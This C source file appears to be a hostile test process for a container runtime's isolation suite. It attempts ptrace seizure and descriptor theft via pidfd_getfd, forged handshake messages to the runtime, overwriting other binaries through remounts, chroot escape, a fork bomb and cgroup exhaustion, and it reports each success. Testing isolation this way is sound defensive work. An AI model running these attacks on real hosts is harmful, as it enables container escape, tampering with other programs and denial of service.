// SPDX-License-Identifier: Apache-2.0
//
// What a hostile process of a container tries on the others that it sees, again and again, until
// there is a file /tmp/stop: its words are on whom.
//
//   attacker trace      seizes each process, and takes its descriptors
//   attacker rights     looks for processes with rights that itself could not have
//   attacker forge      tells whoever listens at a process's descriptors that it is another
//   attacker binary     writes to the programs of others, on which mount ever they are
//   attacker nest       makes control groups below its own, as deep and as fast as it can
//   attacker fork       makes processes as fast as it can
//   attacker part       takes a mount namespace of its own, and waits
//   attacker move       takes a user namespace and a mount namespace of its own, and waits
//   attacker keyring    makes a session keyring with the name in $KEYRING that all may use, and waits
//   attacker leave      goes up out of a root of its own, and lists what is there
//
// A line for each success that no container may have, and at the end how many were tried.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <linux/mount.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static unsigned long tried;

// Whether the program of a process is one of the container's own: then it may be had.
static int is_own(const char *exe) {
  return strstr(exe, "busybox") || strstr(exe, "/attacker") || strstr(exe, "/probe");
}

static void trace(int pid) {
  char path[64], exe[256] = "";
  int process = (int)syscall(SYS_pidfd_open, pid, 0);
  if (process < 0) return;
  tried++;
  for (int number = 3; number < 24; number++) {
    int stolen = (int)syscall(SYS_pidfd_getfd, process, number, 0);
    if (stolen < 0) continue;
    printf("took descriptor %d\n", number);
    close(stolen);
  }
  close(process);
  if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0) return;
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  if (readlink(path, exe, sizeof exe - 1) > 0 && !is_own(exe)) printf("seized %s\n", exe);
  // Who is seized lets go of the other only once that is stopped: it ends with us.
  kill(pid, SIGKILL);
  waitpid(pid, 0, __WALL);
}

// The mask of a line of a process's status.
static unsigned long long mask(const char *pid, const char *key) {
  char path[64], line[256];
  unsigned long long value = 0;
  snprintf(path, sizeof path, "/proc/%s/status", pid);
  FILE *status = fopen(path, "re");
  while (status && fgets(line, sizeof line, status))
    if (!strncmp(line, key, strlen(key))) value = strtoull(line + strlen(key), 0, 16);
  if (status) fclose(status);
  return value;
}

static void rights(int pid) {
  char name[16];
  snprintf(name, sizeof name, "%d", pid);
  unsigned long long more = mask(name, "CapPrm:") & ~mask("self", "CapBnd:");
  tried++;
  if (more) printf("has the rights %llx\n", more);
}

// What init and its like tell the runtime, in Sources/Runtime/Launch/Handshake.swift: that the program
// is the process of that number, here the first one of the host.
static void forge(int pid) {
  static const char frame[5] = {'I', 1, 0, 0, 0};
  int process = (int)syscall(SYS_pidfd_open, pid, 0);
  if (process < 0) return;
  int stolen = (int)syscall(SYS_pidfd_getfd, process, 3, 0);
  close(process);
  if (stolen < 0) return;
  // After the runtime has been told the truth: the channel stays open for as long as we have it.
  usleep(50000);
  if (write(stolen, frame, sizeof frame) == sizeof frame) tried++;
  close(stolen);
}

static void binary(int pid) {
  char path[64], exe[256] = "";
  struct mount_attr writable = {.attr_clr = MOUNT_ATTR_RDONLY};
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  tried++;
  int held = open(path, O_PATH | O_CLOEXEC);
  if (held < 0) return;
  snprintf(path, sizeof path, "/proc/self/fd/%d", held);
  if (readlink(path, exe, sizeof exe - 1) < 0 || is_own(exe)) {
    close(held);
    return;
  }
  if (syscall(SYS_mount_setattr, held, "", AT_EMPTY_PATH, &writable, sizeof writable) == 0)
    printf("made the mount of %s writable\n", exe);
  int copy = (int)syscall(SYS_open_tree, held, "", AT_EMPTY_PATH | OPEN_TREE_CLONE);
  if (copy >= 0) {
    printf("copied the mount of %s\n", exe);
    if (syscall(SYS_mount_setattr, copy, "", AT_EMPTY_PATH, &writable, sizeof writable) == 0)
      printf("made a copy of it writable\n");
    close(copy);
  }
  // Once nobody executes it any more ETXTBSY is no shield.
  for (int i = 0; i < 2000; i++) {
    int file = open(path, O_WRONLY | O_CLOEXEC);
    if (file < 0 && errno == ETXTBSY) continue;
    if (file < 0) break;
    printf("opened %s for writing\n", exe);
    if (write(file, "#!", 2) == 2) printf("wrote to it\n");
    close(file);
    break;
  }
  close(held);
}

static int each_process(void (*attack)(int)) {
  DIR *list = opendir("/proc");
  struct dirent *entry;
  if (!list) return -1;
  while ((entry = readdir(list))) {
    int pid = atoi(entry->d_name);
    if (pid > 1 && pid != getpid()) attack(pid);
  }
  return closedir(list);
}

static int nest(void) {
  if (chdir("/sys/fs/cgroup") < 0) return -1;
  // A name that is no UTF-8, and as deep as the kernel lets us.
  while (access("/tmp/stop", F_OK) != 0) {
    if (mkdir("\xff\xfe", 0755) < 0 || chdir("\xff\xfe") < 0) {
      printf("no deeper than %lu: %s\n", tried, strerror(errno));
      return chdir("/sys/fs/cgroup");
    }
    tried++;
  }
  return 0;
}

// chroot(2): a process below no root of its own any more goes up as far as there is.
static int leave(void) {
  mkdir("/tmp/inner", 0700);
  if (chroot("/tmp/inner") < 0) return -1;
  for (int i = 0; i < 64; i++)
    if (chdir("..") < 0) return -1;
  if (chroot(".") < 0) return -1;
  DIR *top = opendir("/");
  if (!top) return -1;
  for (struct dirent *entry; (entry = readdir(top));) printf("found %s\n", entry->d_name);
  closedir(top);
  return 0;
}

// The arguments of keyctl(2) that a keyring for everybody takes.
static int keyring(void) {
  const char *name = getenv("KEYRING");
  int key = name ? (int)syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, name) : -1;
  if (key < 0 || syscall(SYS_keyctl, KEYCTL_SETPERM, key, 0x3f3f3f3f) < 0) return -1;
  printf("made %s\n", name);
  return pause();
}

int main(int count, char **words) {
  const char *way = count == 2 ? words[1] : "";
  int result = 0;
  setvbuf(stdout, 0, _IOLBF, 0);
  signal(SIGCHLD, SIG_DFL);
  printf("ready\n");
  if (!strcmp(way, "leave")) return leave() < 0;
  if (!strcmp(way, "part")) return unshare(CLONE_NEWNS) < 0 || pause();
  if (!strcmp(way, "move")) {
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0) return 1;
    printf("moved\n");
    return pause();
  }
  if (!strcmp(way, "keyring")) return keyring();
  if (!strcmp(way, "nest")) result = nest();
  if (!strcmp(way, "fork")) {
    signal(SIGCHLD, SIG_IGN);
    for (;;)
      if (fork() > 0) tried++;
  }
  while (access("/tmp/stop", F_OK) != 0 && result == 0) {
    if (!strcmp(way, "trace")) result = each_process(trace);
    if (!strcmp(way, "rights")) result = each_process(rights);
    if (!strcmp(way, "forge")) result = each_process(forge);
    if (!strcmp(way, "binary")) result = each_process(binary);
    if (!strcmp(way, "nest")) usleep(10000);
  }
  if (result < 0) perror(way);
  printf("tried %lu\n", tried);
  return result < 0;
}
